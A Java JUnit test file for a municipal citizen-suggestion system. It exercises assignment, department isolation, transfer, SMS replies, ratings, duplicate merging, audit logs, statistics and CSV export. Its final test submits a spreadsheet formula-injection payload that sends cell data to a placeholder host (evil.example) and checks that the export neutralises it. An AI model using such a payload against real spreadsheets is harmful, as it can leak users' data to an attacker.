package org.pingyi.suggestion;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.json.JsonObject;
import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.pingyi.support.Api;
import org.pingyi.support.Eventually;
import org.pingyi.support.MutableClock;
import org.pingyi.support.SuggestionApi;
import org.pingyi.support.TestEngine;
import org.pingyi.support.TestSmsProvider;

/**
 * The closed loop end to end on one engine, two departments and the office: assign, isolation, co-handler limits,
 * transfer, answer with an SMS to the author, rating (reopen, then close), merging duplicates, the trail, the audit
 * log and figures that add up. The engine's clock stands on Monday 18 November 2024, 09:00 in Qingdao.
 */
class SuggestionLoopTest {
  static final Instant MONDAY = WorkingDaysTest.qingdao("2024-11-18T09:00");
  static MutableClock clock = new MutableClock(MONDAY);
  static TestSmsProvider sms;
  static TestEngine engine;
  static Api api;
  static SuggestionApi loop;

  @BeforeAll
  static void start() throws Exception {
    sms = new TestSmsProvider();
    engine = TestEngine.start(Map.of("sms.gatewayUrl", sms.url()), clock);
    api = engine.api();
    loop = new SuggestionApi(engine);
  }

  @AfterAll
  static void stop() {
    engine.close();
    sms.close();
  }

  static List<TestSmsProvider.Request> smsTo(String phone) {
    return sms.requests().stream().filter(r -> phone.equals(r.to())).toList();
  }

  @Test
  void aSuggestionGoesRoundTheWholeLoopAcrossTwoDepartmentsAndTheOffice() throws Exception {
    clock.set(MONDAY);
    String author = loop.citizen("face-loop-author");
    String id = loop.suggest(author, "urban", "D31", "建议在老城区增加公共停车位。", "13800000001");
    JsonObject received = loop.one(engine.operator(), id);
    assertEquals("received", received.getString("status"));
    assertTrue(received.getJsonObject("author").getString("id").matches("c[0-9a-f]{32}"));
    assertFalse(received.encode().contains("13800000001"), "the phone is never shown");

    // The office assigns: D07 leads, D12 co-handles; 13 working days from Monday 18 November: Thursday 5 December.
    var assigned = loop.assign(id, "D07", "D12");
    assertEquals(200, assigned.status(), assigned.body());
    assertEquals(WorkingDaysTest.qingdao("2024-12-06T00:00").toString(), assigned.json().getString("dueAt"));
    assertEquals(409, loop.assign(id, "D08").status(), "assigned once");

    // The co-handler sees it but may neither answer nor transfer it.
    assertNotNull(SuggestionApi.byId(loop.list(engine.department("D12"), ""), id));
    assertEquals("D07", loop.one(engine.department("D12"), id).getString("lead"));
    var coAnswer = loop.answer("D12", id, "已办理。", false, null);
    assertEquals(403, coAnswer.status(), coAnswer.body());
    assertEquals("forbidden", coAnswer.code());
    assertEquals(403, loop.step(engine.department("D12"), id, "transfer", new JsonObject().put("to", "D31").put("reason", "x")).status());
    // Another department sees nothing of it, by list, by id, by CSV, and cannot act on it.
    String d31 = engine.department("D31");
    assertNull(SuggestionApi.byId(loop.list(d31, ""), id));
    assertEquals(404, api.get("/api/v1/admin/suggestions/" + id, Api.bearer(d31)).status());
    assertFalse(api.get("/api/v1/admin/suggestions.csv", Api.bearer(d31)).body().contains("老城区增加公共停车位"));
    assertEquals(404, loop.answer("D31", id, "越权答复", true, null).status());
    assertEquals(404, loop.step(d31, id, "transfer", new JsonObject().put("to", "D31").put("reason", "x")).status());
    assertEquals(List.of("submitted", "assigned"), SuggestionApi.actions(loop.one(engine.operator(), id)), "refusals leave no step");

    // The lead passes it on to the department that owns parking; the clock keeps running.
    var transferred = loop.step(engine.department("D07"), id, "transfer",
        new JsonObject().put("to", "D31").put("reason", "停车设施由城市管理局负责"));
    assertEquals(200, transferred.status(), transferred.body());
    assertEquals("D31", transferred.json().getString("lead"));
    assertEquals(assigned.json().getString("dueAt"), transferred.json().getString("dueAt"));
    assertEquals(404, api.get("/api/v1/admin/suggestions/" + id, Api.bearer(engine.department("D07"))).status(),
        "the former lead no longer sees it");

    // D31 answers on Wednesday; the author is told by SMS and may rate.
    clock.set(WorkingDaysTest.qingdao("2024-11-20T15:00"));
    var answered = loop.answer("D31", id, "已纳入明年停车设施建设计划。", true, "2025年新增泊位800个");
    assertEquals(200, answered.status(), answered.body());
    assertTrue(answered.json().getBoolean("answeredOnTime"));
    Eventually.await(() -> smsTo("13800000001").size(), n -> n >= 1, Duration.ofSeconds(20));
    assertEquals(1, smsTo("13800000001").size());
    assertTrue(smsTo("13800000001").get(0).text().contains("编号" + id), smsTo("13800000001").get(0).text());
    JsonObject mine = SuggestionApi.byId(loop.mine(author), id);
    assertEquals("answered", mine.getString("status"));
    assertEquals("已纳入明年停车设施建设计划。", mine.getString("answer"));
    assertTrue(mine.getBoolean("feedbackOpen"));

    // Not satisfied: back to D31 with a new due date, 13 working days from Thursday 21 November.
    clock.set(WorkingDaysTest.qingdao("2024-11-21T10:00"));
    var reopened = loop.feedback(author, id, false, "希望给出具体选址");
    assertEquals(200, reopened.status(), reopened.body());
    assertEquals("reopened", reopened.json().getString("status"));
    assertEquals(WorkingDaysTest.qingdao("2024-12-11T00:00").toString(), reopened.json().getString("dueAt"));
    var twice = loop.feedback(author, id, true, null);
    assertEquals(409, twice.status(), "once per answer");
    assertEquals("invalid_transition", twice.code());
    assertEquals("reopened", loop.one(engine.operator(), id).getString("status"));

    var again = loop.answer("D31", id, "选址在海泊河路南侧空地。", true, "2025年6月前建成");
    assertEquals(200, again.status(), again.body());
    Eventually.await(() -> smsTo("13800000001").size(), n -> n >= 2, Duration.ofSeconds(20));
    var closed = loop.feedback(author, id, true, null);
    assertEquals("closed", closed.json().getString("status"));
    assertFalse(SuggestionApi.byId(loop.mine(author), id).getBoolean("feedbackOpen"));
    assertEquals(0, engine.count("SELECT count(*) FROM suggestions WHERE id = ? AND phone IS NOT NULL", Long.parseLong(id)),
        "a closed suggestion forgets the author's phone");

    JsonObject full = loop.one(engine.operator(), id);
    assertEquals(List.of("submitted", "assigned", "transferred", "answered", "rated", "answered", "rated"), SuggestionApi.actions(full));
    assertEquals(7, engine.count("SELECT count(*) FROM audit_log WHERE target = ?", "suggestion:" + Long.parseLong(id)),
        "every step is in the audit log too");
    JsonObject transferStep = full.getJsonArray("trail").getJsonObject(2);
    assertEquals("D07", transferStep.getJsonObject("detail").getString("from"));
    assertEquals("停车设施由城市管理局负责", transferStep.getJsonObject("detail").getString("reason"));
  }

  @Test
  void aMergedDuplicatesAuthorGetsTheOthersAnswer() throws Exception {
    clock.set(MONDAY);
    String first = loop.citizen("face-merge-first");
    String second = loop.citizen("face-merge-second");
    String late = loop.citizen("face-merge-late");
    String original = loop.suggest(first, "livelihood", null, "建议延长市图书馆周末开放时间，方便上班族借阅。", "13800000011");
    String duplicate = loop.suggest(second, "livelihood", null, "市图书馆周末开放时间太短，建议延长，方便上班族。", "13800000012");
    loop.suggest(second, "ecology", null, "建议增加河道保洁频次。", null);

    var similar = api.get("/api/v1/admin/suggestions/" + duplicate + "/similar", Api.bearer(engine.operator()));
    assertEquals(200, similar.status(), similar.body());
    assertEquals(original, similar.json().getJsonArray("similar").getJsonObject(0).getString("id"), similar.body());
    assertTrue(similar.json().getJsonArray("similar").stream().map(JsonObject.class::cast)
        .allMatch(s -> s.getDouble("score") >= Similarity.THRESHOLD), "only the same topic, above the threshold");

    assertEquals(200, loop.assign(original, "D08").status());
    var merged = loop.step(engine.operator(), duplicate, "merge", new JsonObject().put("into", original));
    assertEquals(200, merged.status(), merged.body());
    assertEquals("merged", merged.json().getString("status"));
    var intoItself = loop.step(engine.operator(), original, "merge", new JsonObject().put("into", original));
    assertEquals(422, intoItself.status(), intoItself.body());
    assertEquals("invalid_suggestion", intoItself.code());
    assertEquals(422, loop.step(engine.operator(), original, "merge", new JsonObject().put("into", duplicate)).status(),
        "not into a suggestion that is itself merged");
    assertEquals(409, loop.step(engine.operator(), duplicate, "merge", new JsonObject().put("into", original)).status(),
        "merged once");

    assertEquals(200, loop.answer("D08", original, "自2025年1月起周末开放延长至21:00。", true, null).status());
    Eventually.await(() -> smsTo("13800000012").size(), n -> n >= 1, Duration.ofSeconds(20));
    assertEquals(1, smsTo("13800000011").size(), "the original's author is told");
    assertEquals(1, smsTo("13800000012").size(), "and the duplicate's author too");
    JsonObject theirs = SuggestionApi.byId(loop.mine(second), duplicate);
    assertEquals("merged", theirs.getString("status"));
    assertEquals(original, theirs.getString("mergedInto"));
    assertEquals("自2025年1月起周末开放延长至21:00。", theirs.getString("answer"));
    assertFalse(theirs.getBoolean("feedbackOpen"));
    assertEquals(409, loop.feedback(second, duplicate, true, null).status(), "the original's author rates, not the duplicate's");
    assertTrue(SuggestionApi.actions(loop.one(engine.operator(), duplicate)).contains("answer_shared"));

    // A duplicate found after the answer: its author is told at once.
    String afterwards = loop.suggest(late, "livelihood", null, "图书馆周末能否晚点关门？", "13800000013");
    assertEquals(200, loop.step(engine.operator(), afterwards, "merge", new JsonObject().put("into", original)).status());
    Eventually.await(() -> smsTo("13800000013").size(), n -> n >= 1, Duration.ofSeconds(20));
    assertEquals("自2025年1月起周末开放延长至21:00。", SuggestionApi.byId(loop.mine(late), afterwards).getString("answer"));
    assertEquals(List.of(duplicate, afterwards), loop.one(engine.operator(), original).getJsonArray("duplicates").getList());
  }

  @Test
  void theFiguresPerDepartmentAddUp() throws Exception {
    clock.set(MONDAY);
    String author = loop.citizen("face-figures");
    String onTime = loop.suggest(author, "economy", null, "建议设立中小企业融资服务窗口。", null);
    String late = loop.suggest(author, "economy", null, "建议简化外贸企业退税流程。", null);
    String pending = loop.suggest(author, "opening", null, "建议增开国际航线。", null);
    loop.suggest(author, "opening", null, "建议举办更多国际展会。", null);
    for (String id : List.of(onTime, late, pending)) {
      assertEquals(200, loop.assign(id, "D15").status());
    }
    assertEquals(200, loop.answer("D15", onTime, "已设立。", true, null).status());
    clock.set(WorkingDaysTest.qingdao("2024-12-20T10:00"));  // past the 6 December deadline
    assertEquals(200, loop.answer("D15", late, "已简化。", false, null).status());
    assertEquals(200, loop.feedback(author, late, false, null).status());

    JsonObject figures = api.get("/api/v1/admin/suggestions/stats", Api.bearer(engine.auditor())).json();
    JsonObject d15 = figures.getJsonArray("departments").stream().map(JsonObject.class::cast)
        .filter(r -> r.getJsonObject("department").getString("code").equals("D15")).findFirst().orElseThrow();
    assertEquals(new JsonObject().put("department", new JsonObject().put("code", "D15").put("name", "市民营经济局"))
        .put("received", 3).put("answered", 1).put("answeredOnTime", 1).put("overdue", 1).put("reopened", 1)
        .put("satisfied", 0).put("dissatisfied", 1).put("adopted", 1), d15,
        "answered on time and adopted; answered late, then reopened with a new due date; one still unanswered past its due date");

    JsonObject sums = new JsonObject();
    for (String column : SuggestionFigures.COLUMNS) {
      long sum = figures.getJsonArray("departments").stream().map(JsonObject.class::cast).mapToLong(r -> r.getLong(column)).sum();
      assertEquals(figures.getJsonObject("totals").getLong(column), sum, column);
      sums.put(column, sum);
    }
    assertEquals(engine.count("SELECT count(*) FROM suggestions"),
        sums.getLong("received") + figures.getLong("unassigned") + figures.getLong("merged"), "every suggestion is counted once");
    assertEquals(39, figures.getJsonArray("departments").size(), "every department has a row");

    var csv = api.get("/api/v1/admin/suggestions/stats.csv", Api.bearer(engine.operator()));
    assertEquals(200, csv.status());
    assertTrue(csv.body().startsWith("\uFEFFcode,department,received,answered,answeredOnTime,overdue,reopened,satisfied,dissatisfied,adopted"));
    assertTrue(csv.body().contains("D15,市民营经济局,3,1,1,1,1,0,1,1"), csv.body());
    JsonObject own = api.get("/api/v1/admin/suggestions/stats", Api.bearer(engine.department("D15"))).json();
    assertEquals(1, own.getJsonArray("departments").size(), "a department's figures are its own");
    assertEquals(3, own.getJsonObject("totals").getLong("received"));
  }

  @Test
  void aSuggestionThatASpreadsheetWouldRunAsAFormulaIsExportedNeutralised() throws Exception {
    clock.set(MONDAY);
    String author = loop.citizen("face-formula");
    String text = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    String id = loop.suggest(author, "urban", null, text, null);
    assertEquals(200, loop.assign(id, "D31").status());
    assertEquals(200, loop.answer("D31", id, "-已转交相关部门", false, "@计划").status());
    assertEquals(text, loop.one(engine.operator(), id).getString("text"), "stored and shown as written");

    var csv = api.get("/api/v1/admin/suggestions.csv", Api.bearer(engine.operator()));
    assertEquals(200, csv.status());
    CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(csv.body().substring(1))).stream()
        .filter(r -> r.get("id").equals(id)).findFirst().orElseThrow();
    assertEquals("'" + text, row.get("text"), "API.md: a cell beginning with = gets a leading '");
    assertEquals("'-已转交相关部门", row.get("answer"));
    assertEquals("'@计划", row.get("plan"));
    assertEquals("urban", row.get("topic"), "other cells are as they are");
  }
}
